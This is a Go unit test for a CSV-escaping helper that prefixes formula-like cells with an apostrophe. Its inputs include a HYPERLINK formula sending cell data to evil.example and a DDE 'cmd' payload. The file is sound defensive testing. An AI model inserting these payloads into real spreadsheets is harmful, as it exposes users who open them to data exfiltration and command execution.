package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/fleetwright/fleetwright/app/csvsafe"
)

func TestFormulaCellsAreWrittenAsText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"open")`: `'=HYPERLINK("http://evil.example/?x="&A1,"open")`,
		"+cmd|' /C calc'!A0":                              "'+cmd|' /C calc'!A0",
		"-2+3":                                            "'-2+3",
		"@SUM(1+1)":                                       "'@SUM(1+1)",
		"\t=1+1":                                          "'\t=1+1",
		"\r=1+1":                                          "'\r=1+1",
		"\n=1+1":                                          "'\n=1+1",
		"-12.5":                                           "-12.5",
		"+3":                                              "+3",
		"-1e3":                                            "-1e3",
		"LD-100":                                          "LD-100",
		"":                                                "",
	} {
		require.Equal(t, want, csvsafe.Cell(in), "%q", in)
	}
	var b bytes.Buffer
	w := csvsafe.NewWriter(&b)
	require.NoError(t, w.Write([]string{"=1+1", "ok", "-5"}))
	require.NoError(t, w.Flush())
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{{"'=1+1", "ok", "-5"}}, rows)
}
